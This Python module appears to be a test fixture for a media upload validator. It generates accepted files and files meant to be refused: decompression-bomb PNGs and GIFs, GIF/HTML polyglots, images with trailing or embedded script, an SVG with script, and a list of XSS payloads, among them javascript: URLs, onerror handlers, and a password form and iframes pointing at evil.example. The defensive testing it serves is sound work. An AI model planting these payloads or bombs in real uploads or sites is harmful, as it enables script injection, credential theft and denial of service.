"""Hostile and awkward uploads, all made in code so nothing is downloaded.

Each factory is cached: several tests read the same bytes, and a few files
(the 3000-frame GIF, the 20000 x 20000 PNG, the videos) take a moment to build.
"""

import io
import math
import struct
import tempfile
import wave
from collections.abc import Callable
from dataclasses import dataclass
from fractions import Fraction
from functools import cache, partial

import av
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

# The upright portrait carries this colour in its top-left corner; it is stored
# rotated with EXIF orientation 6, so only a reader that applies the tag finds it there.
ORIENTATION_MARK = (255, 0, 0)
PORTRAIT_SIZE = (60, 80)
CLIP_SECONDS = 1.0
ANIMATION_DURATIONS = (100, 200, 300)


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    content_factory: Callable[[], bytes]
    expected_kind: str | None  # None: the upload must be refused
    reason: str = ""  # part of the refusal message
    mime_type: str | None = None
    extension: str | None = None
    size: tuple[int, int] | None = None
    duration: float | None = None
    max_bytes: int | None = None


def _save(image, format, **options):
    buffer = io.BytesIO()
    image.save(buffer, format, **options)
    return buffer.getvalue()


def _gradient(size, mode="RGB"):
    # Smooth colour plus a diagonal line, so encoders produce real, non-trivial data.
    width, height = size
    image = Image.new(mode, size)
    draw = ImageDraw.Draw(image)
    for x in range(width):
        draw.line([(x, 0), (x, height)], fill=(x * 255 // width, 120, 255 - x * 255 // width))
    draw.line([(0, 0), size], fill=(255, 255, 255), width=3)
    return image


@cache
def photo_jpeg():
    return _save(_gradient((64, 48)), "JPEG", quality=90)


@cache
def noisy_jpeg():
    noise = Image.effect_noise((256, 192), 64)
    return _save(Image.merge("RGB", [noise, noise.rotate(90), noise.rotate(180)]), "JPEG", quality=95)


@cache
def truncated_jpeg():
    data = noisy_jpeg()
    return data[: len(data) * 6 // 10]


@cache
def jpeg_with_trailing_script():
    return photo_jpeg() + b"<script>fetch('/admin/').then(r => r.text())</script>"


@cache
def jpeg_with_script_in_comment():
    return _save(_gradient((64, 48)), "JPEG", comment=b"<script>alert(document.cookie)</script>")


# What Lightroom writes into a photo: namespaced tags (<rdf:li ...>), URLs, attributes
# such as stEvt:action="saved", all of which the hidden-markup check must let through.
ORDINARY_XMP = """<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 7.0-c000 1.000000, 0000/00/00-00:00:00">
 <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about=""
    xmlns:xmp="http://ns.adobe.com/xap/1.0/"
    xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/"
    xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#"
   xmp:CreatorTool="Adobe Photoshop Lightroom Classic 13.0 (Windows)"
   xmpMM:DocumentID="xmp.did:5b1f0c1e-57c4-4e4e-9d7e-0d6b8d6a1c2f">
   <xmpMM:History>
    <rdf:Seq>
     <rdf:li stEvt:action="saved" stEvt:softwareAgent="Adobe Photoshop Lightroom" stEvt:when="2026-05-01T10:00:00"/>
    </rdf:Seq>
   </xmpMM:History>
   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">Heel pull on the box</rdf:li></rdf:Alt></dc:title>
   <dc:rights><rdf:Alt><rdf:li xml:lang="x-default">© Jane Doe <jane@example.com></rdf:li></rdf:Alt></dc:rights>
  </rdf:Description>
 </rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>"""
ORDINARY_NOTE = "Heel pull, 10 reps <each side> then change feet; cadence < 180 > 170. See https://example.com/drills"


@cache
def jpeg_with_ordinary_metadata():
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Canon", "EOS R6"  # make, model
    exif[0x0131] = "Adobe Photoshop Lightroom Classic 13.0 (Windows)"  # software
    exif[0x010E] = ORDINARY_NOTE  # image description
    exif[0x8298] = "© 2026 Jane Doe"  # copyright
    return _save(
        _gradient((64, 48)), "JPEG", quality=90, exif=exif.tobytes(), xmp=ORDINARY_XMP.encode(),
        comment=ORDINARY_NOTE.encode(),
    )


@cache
def png_with_ordinary_text_chunks():
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "GIMP 2.10.36")
    info.add_text("Comment", ORDINARY_NOTE)
    info.add_itxt("XML:com.adobe.xmp", ORDINARY_XMP)
    return _save(_gradient((64, 48)), "PNG", pnginfo=info)


# Each would run script, load something or navigate if a browser rendered the file as a page.
HIDDEN_MARKUP = {
    "img onerror": "<img src=x onerror=alert(document.domain)>",
    "img with a slash and capitals": "<IMG/SRC=x ONERROR=alert(1)>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "javascript link": '<a href="javascript:alert(1)">open</a>',
    "javascript url split by a tab": '<a href="java\tscript:alert(1)">open</a>',
    "style": "<style>body{background:url(https://evil.example/x)}</style>",
    "form": '<form action="https://evil.example/login"><input name=password></form>',
    "math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "iframe": "<iframe src=https://evil.example/>",
    "object": "<object data=https://evil.example/x.swf>",
    "embed": "<embed src=https://evil.example/x.swf>",
    "svg onload": "<svg/onload=alert(1)>",
    "html": "<html><p>Hello</p></html>",
    "body onload": "<body onload=alert(1)>",
    "base": "<base href=https://evil.example/>",
    "any element with an event handler": '<div onmouseover="alert(1)">hover</div>',
}


def png_with_text(text):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return _save(_gradient((64, 48)), "PNG", pnginfo=info)


@cache
def exif_rotated_portrait():
    upright = Image.new("RGB", PORTRAIT_SIZE, (0, 0, 255))
    upright.paste(ORIENTATION_MARK, (0, 0, 20, 20))
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90 degrees clockwise to display"
    stored = upright.transpose(Image.Transpose.ROTATE_90)
    return _save(stored, "JPEG", quality=95, exif=exif.tobytes())


@cache
def jpeg_with_gps():
    exif = Image.Exif()
    exif[0x010F] = "Spy Camera Co"
    exif[0x0110] = "Tracker 3000"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (52.0, 22.0, 30.0)
    gps[3], gps[4] = "E", (4.0, 53.0, 12.0)
    return _save(_gradient((640, 480)), "JPEG", quality=90, exif=exif.tobytes())


@cache
def cmyk_jpeg():
    return _save(Image.new("CMYK", (64, 48), (0, 255, 255, 0)), "JPEG", quality=95)


@cache
def png_16bit():
    # 32896 / 257 = 128: a reader that clips instead of scaling would see white.
    return _save(Image.new("I;16", (64, 48), 32896), "PNG")


@cache
def palette_png_with_transparency():
    image = Image.new("P", (64, 48), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0, 0, 0] * 254)
    ImageDraw.Draw(image).rectangle((16, 12, 47, 35), fill=1)
    return _save(image, "PNG", transparency=0)


def swapped_primaries_profile():
    """An RGB profile whose red and green primaries are swapped relative to sRGB,
    so a file tagged with it and painted pure red *means* pure green."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    (count,) = struct.unpack_from(">I", profile, 128)
    entries = {}
    for index in range(count):
        offset = 132 + 12 * index
        entries[bytes(profile[offset : offset + 4])] = offset
    red, green = entries[b"rXYZ"], entries[b"gXYZ"]
    profile[red + 4 : red + 12], profile[green + 4 : green + 12] = (
        profile[green + 4 : green + 12],
        profile[red + 4 : red + 12],
    )
    profile[84:100] = bytes(16)  # the profile ID would no longer match
    return bytes(profile)


@cache
def png_with_icc_profile():
    return _save(Image.new("RGB", (64, 48), (255, 0, 0)), "PNG", icc_profile=swapped_primaries_profile())


@cache
def still_webp():
    return _save(_gradient((64, 48)), "WEBP", quality=80)


def _animation_frames():
    return [Image.new("RGB", (64, 48), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]


@cache
def animated_webp():
    frames = _animation_frames()
    return _save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=list(ANIMATION_DURATIONS), loop=0)


@cache
def animated_gif():
    frames = _animation_frames()
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=list(ANIMATION_DURATIONS), loop=0)


@cache
def animated_png():
    frames = _animation_frames()
    return _save(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=list(ANIMATION_DURATIONS))


@cache
def gif_with_3000_frames():
    # 200 x 200 x 3000 = 120 megapixels of decoded frames from a file of a few KB.
    # Each frame differs by one pixel, or Pillow would merge identical frames.
    frames = []
    for index in range(3000):
        frame = Image.new("P", (200, 200), 0)
        frame.putpalette([0, 0, 0, 255, 255, 255] + [0, 0, 0] * 254)
        frame.putpixel((index % 200, index // 200), 1)
        frames.append(frame)
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=20)


# A GIF written block by block: Pillow's encoder merges identical frames and sizes the
# screen to fit every frame, which the files below must not have done for them.
_GIF_PALETTE = b"\x00\x00\x00\xff\xff\xff"
_GIF_DELAY = b"\x21\xf9\x04\x00\x02\x00\x00\x00"  # graphic control extension: 20 ms
_ONE_PIXEL_IMAGE_DATA = b"\x02\x02\x44\x01\x00"  # LZW: clear, colour 0, end


def gif_by_hand(screen, frames):
    header = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + _GIF_PALETTE
    return header + b"".join(frames) + b"\x3b"


def gif_frame(size=(1, 1), image_data=_ONE_PIXEL_IMAGE_DATA, offset=(0, 0)):
    return _GIF_DELAY + b"\x2c" + struct.pack("<HHHHB", *offset, *size, 0) + image_data


def tiny_frames_gif(frames):
    return gif_by_hand((1, 1), [gif_frame()] * frames)


@cache
def gif_with_120000_tiny_frames():
    # 2.7 MB of 1 x 1 frames: under any pixel limit that counts frames at their size, yet
    # minutes of work to decode and resize.
    return tiny_frames_gif(120_000)


def _gif_image_data(size):
    """The LZW-compressed pixels of a one-colour frame of `size`, for gif_frame()."""
    image = Image.new("P", size, 0)
    image.putpalette([0, 0, 0, 255, 255, 255] + [0, 0, 0] * 254)
    saved = _save(image, "GIF", interlace=False)
    descriptor = saved.index(b"\x2c" + struct.pack("<4H", 0, 0, *size))
    return saved[descriptor + 10 : -1]  # no local palette; the last byte is the trailer


@cache
def gif_with_frames_larger_than_its_screen():
    # The header says 1 x 1; Pillow grows the canvas to fit the later frames and decodes
    # each at 3000 x 3000: 63 megapixels from 47 KB.
    big = gif_frame((3000, 3000), _gif_image_data((3000, 3000)))
    return gif_by_hand((1, 1), [gif_frame()] + [big] * 6)


@cache
def png_20000_square():
    # 400 megapixels declared, a few KB on disk: a classic decompression bomb.
    return _save(Image.new("1", (20000, 20000)), "PNG", optimize=True)


@cache
def truncated_png():
    data = _save(Image.effect_noise((128, 128), 64), "PNG")
    return data[: len(data) // 2]


@cache
def gif_polyglot_html():
    # A GIF header that a browser sniffing for HTML would still render as a page.
    return b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00" + b"<html><body><script>alert(1)</script></body></html>"


@cache
def gif_with_appended_html():
    return _save(Image.new("P", (16, 16), 0), "GIF") + b"<html><script>alert(1)</script></html>"


@cache
def svg_with_script():
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
    )


@cache
def html_page():
    return b"<!DOCTYPE html>\n<html><head><title>cue</title></head><body><script>alert(1)</script></body></html>"


def _encode_video(container, codec, options=None, seconds=CLIP_SECONDS, fps=25, container_options=None):
    # Faststart rewrites the file to move the index to the front, so it needs a
    # real file it can reopen; a temporary one serves every case alike.
    with tempfile.NamedTemporaryFile(suffix=f".{container}") as target:
        with av.open(target.name, "w", format=container, options=container_options or {}) as output:
            stream = output.add_stream(codec, rate=fps, options=options or {})
            stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
            for index in range(int(seconds * fps)):
                frame = av.VideoFrame.from_image(Image.new("RGB", (64, 48), (index * 10, 100, 200)))
                output.mux(stream.encode(frame))
            output.mux(stream.encode())
        return target.read()


def _cut(data, share):
    return data[: int(len(data) * share)]


def _sine(rate, seconds=CLIP_SECONDS):
    samples = int(rate * seconds)
    values = (int(12000 * math.sin(2 * math.pi * 440 * i / rate)) for i in range(samples))
    return samples, struct.pack(f"<{samples}h", *values)


def _encode_audio(container, codec, rate, layout="mono", options=None):
    buffer = io.BytesIO()
    with av.open(buffer, "w", format=container) as output:
        stream = output.add_stream(codec, rate=rate, layout=layout, options=options or {})
        samples, pcm = _sine(rate)
        source = av.AudioFrame(format="s16", layout="mono", samples=samples)
        source.planes[0].update(pcm)
        source.sample_rate, source.pts, source.time_base = rate, 0, Fraction(1, rate)
        resampler = av.AudioResampler(
            format=stream.codec_context.format.name,
            layout=layout,
            rate=rate,
            frame_size=stream.codec_context.frame_size or None,
        )
        for frame in resampler.resample(source) + resampler.resample(None):
            output.mux(stream.encode(frame))
        output.mux(stream.encode())
    return buffer.getvalue()


@cache
def mp4_h264():
    return _encode_video("mp4", "libx264")


@cache
def truncated_mp4():
    data = mp4_h264()
    return data[: len(data) // 2]


@cache
def faststart_mp4():
    # The index (moov) before the media, as phones and web exports write it: a
    # cut file still opens and claims its full length.
    return _encode_video("mp4", "libx264", container_options={"movflags": "faststart"})


@cache
def faststart_mp4_cut_at_80_percent():
    return _cut(faststart_mp4(), 0.8)


@cache
def webm_cut_in_half():
    return _cut(webm_vp9(), 0.5)


@cache
def mp4_mpeg4_part2():
    return _encode_video("mp4", "mpeg4")


@cache
def quicktime_mov():
    return _encode_video("mov", "libx264")


@cache
def webm_vp9():
    return _encode_video("webm", "libvpx-vp9", {"deadline": "realtime", "cpu-used": "8"})


@cache
def mp3():
    return _encode_audio("mp3", "libmp3lame", 44100)


@cache
def m4a():
    return _encode_audio("ipod", "aac", 44100)


@cache
def mp3_cut_in_half():
    return _cut(mp3(), 0.5)


@cache
def m4a_cut_at_80_percent():
    return _cut(m4a(), 0.8)


@cache
def ogg_opus():
    return _encode_audio("ogg", "libopus", 48000)


@cache
def ogg_vorbis():
    # FFmpeg's own Vorbis encoder is marked experimental and only does stereo.
    return _encode_audio("ogg", "vorbis", 44100, layout="stereo", options={"strict": "experimental"})


@cache
def flac():
    return _encode_audio("flac", "flac", 44100)


@cache
def wav():
    rate = 22050
    _, pcm = _sine(rate)
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as output:
        output.setnchannels(1)
        output.setsampwidth(2)
        output.setframerate(rate)
        output.writeframes(pcm)
    return buffer.getvalue()


@cache
def wav_cut_in_half():
    return _cut(wav(), 0.5)


def pdf():
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def windows_exe():
    stub = b"MZ" + b"\x90\x00" * 29 + b"\x80\x00\x00\x00"
    return stub + b"This program cannot be run in DOS mode.\r\n$" + b"\x00" * 32 + b"PE\x00\x00"


def plain_text():
    return "Pull the support foot under the hip. 10 times, then change feet — hips level.\n".encode()


@cache
def bmp():
    return _save(_gradient((32, 24)), "BMP")


@cache
def tiff():
    return _save(_gradient((32, 24)), "TIFF")


def heic_header():
    return struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"heic", 0, b"mif1", b"heic") + b"\x00" * 64


def empty():
    return b""


def accepted(name, filename, content_factory, kind, mime_type, extension, *, size=(64, 48), duration=None):
    return Case(
        name, filename, content_factory, kind, mime_type=mime_type, extension=extension, size=size, duration=duration
    )


def refused(name, filename, content_factory, reason, *, max_bytes=None):
    return Case(name, filename, content_factory, None, reason, max_bytes=max_bytes)


ANIMATION_SECONDS = sum(ANIMATION_DURATIONS) / 1000

CORPUS = [
    accepted("plain jpeg", "photo.jpg", photo_jpeg, "image", "image/jpeg", "jpg"),
    accepted("still webp", "photo.webp", still_webp, "image", "image/webp", "webp"),
    accepted(
        "exif rotated portrait", "portrait.jpg", exif_rotated_portrait, "image", "image/jpeg", "jpg", size=PORTRAIT_SIZE
    ),
    accepted("jpeg with gps", "holiday.jpg", jpeg_with_gps, "image", "image/jpeg", "jpg", size=(640, 480)),
    accepted("cmyk jpeg", "print.jpg", cmyk_jpeg, "image", "image/jpeg", "jpg"),
    accepted(
        "jpeg with exif, xmp and a comment", "lightroom.jpg", jpeg_with_ordinary_metadata, "image", "image/jpeg", "jpg"
    ),
    accepted("png with text and xmp chunks", "gimp.png", png_with_ordinary_text_chunks, "image", "image/png", "png"),
    accepted("16-bit png", "scan.png", png_16bit, "image", "image/png", "png"),
    accepted("palette png with transparency", "logo.png", palette_png_with_transparency, "image", "image/png", "png"),
    accepted("png with non-srgb icc profile", "wide.png", png_with_icc_profile, "image", "image/png", "png"),
    accepted("animated webp", "hop.webp", animated_webp, "animation", "image/webp", "webp", duration=ANIMATION_SECONDS),
    accepted("animated gif", "hop.gif", animated_gif, "animation", "image/gif", "gif", duration=ANIMATION_SECONDS),
    accepted("animated png", "hop.png", animated_png, "animation", "image/png", "png", duration=ANIMATION_SECONDS),
    accepted("mp4 named .png", "clip.png", mp4_h264, "video", "video/mp4", "mp4", duration=CLIP_SECONDS),
    accepted("faststart mp4", "clip.mp4", faststart_mp4, "video", "video/mp4", "mp4", duration=CLIP_SECONDS),
    accepted("webm vp9", "clip.webm", webm_vp9, "video", "video/webm", "webm", duration=CLIP_SECONDS),
    accepted("mp3", "cue.mp3", mp3, "audio", "audio/mpeg", "mp3", size=None, duration=CLIP_SECONDS),
    accepted("m4a aac", "cue.m4a", m4a, "audio", "audio/mp4", "m4a", size=None, duration=CLIP_SECONDS),
    accepted("ogg opus", "cue.ogg", ogg_opus, "audio", "audio/ogg", "ogg", size=None, duration=CLIP_SECONDS),
    accepted("ogg vorbis", "cue.oga", ogg_vorbis, "audio", "audio/ogg", "ogg", size=None, duration=CLIP_SECONDS),
    accepted("wav", "cue.wav", wav, "audio", "audio/wav", "wav", size=None, duration=CLIP_SECONDS),
    accepted("mp3 named .jpg", "cue.jpg", mp3, "audio", "audio/mpeg", "mp3", size=None, duration=CLIP_SECONDS),
    refused("zero bytes", "photo.jpg", empty, "empty (0 bytes)"),
    refused("over the byte limit", "photo.jpg", noisy_jpeg, "the limit is 1 KB", max_bytes=1024),
    refused("truncated jpeg", "photo.jpg", truncated_jpeg, "truncated or corrupt"),
    refused("truncated png", "photo.png", truncated_png, "truncated or corrupt"),
    refused("truncated mp4", "clip.mp4", truncated_mp4, "truncated or corrupt"),
    refused("faststart mp4 cut at 80%", "clip.mp4", faststart_mp4_cut_at_80_percent, "truncated"),
    refused("webm cut in half", "clip.webm", webm_cut_in_half, "truncated"),
    refused("mp3 cut in half", "cue.mp3", mp3_cut_in_half, "truncated"),
    refused("m4a cut at 80%", "cue.m4a", m4a_cut_at_80_percent, "truncated"),
    refused("wav cut in half", "cue.wav", wav_cut_in_half, "truncated"),
    refused("20000 x 20000 png", "bomb.png", png_20000_square, "megapixels"),
    refused("gif with 3000 frames", "bomb.gif", gif_with_3000_frames, "more than 1,000 frames"),
    refused("gif with 120000 tiny frames", "spinner.gif", gif_with_120000_tiny_frames, "more than 1,000 frames"),
    refused("gif with frames larger than its screen", "grow.gif", gif_with_frames_larger_than_its_screen, "megapixels"),
    refused(
        "jpeg with script after the end", "photo.jpg", jpeg_with_trailing_script, "has data after the end of the image"
    ),
    refused("gif with html after the end", "hop.gif", gif_with_appended_html, "has data after the end of the image"),
    refused("jpeg with script in a comment", "photo.jpg", jpeg_with_script_in_comment, "HTML or script hidden"),
    refused("gif header followed by html", "hop.gif", gif_polyglot_html, "HTML or script hidden"),
    refused("svg with script", "drawing.svg", svg_with_script, "SVG can carry scripts"),
    *(
        refused(f"png with {name} in a text chunk", "photo.png", partial(png_with_text, text), "HTML or script hidden")
        for name, text in HIDDEN_MARKUP.items()
    ),
    refused("html named .jpg", "photo.jpg", html_page, "HTML"),
    refused("pdf", "article.pdf", pdf, "PDF document"),
    refused("windows exe", "video.mp4", windows_exe, "program"),
    refused("plain text", "cue.mp3", plain_text, "text file"),
    refused("bmp", "photo.bmp", bmp, "BMP images are not accepted"),
    refused("tiff", "photo.tif", tiff, "TIFF images are not accepted"),
    refused("heic", "IMG_0001.HEIC", heic_header, "HEIC"),
    refused("quicktime mov", "clip.mov", quicktime_mov, "QuickTime"),
    refused("mpeg-4 part 2 video", "clip.mp4", mp4_mpeg4_part2, "codec"),
    refused("flac", "cue.flac", flac, "FLAC"),
]
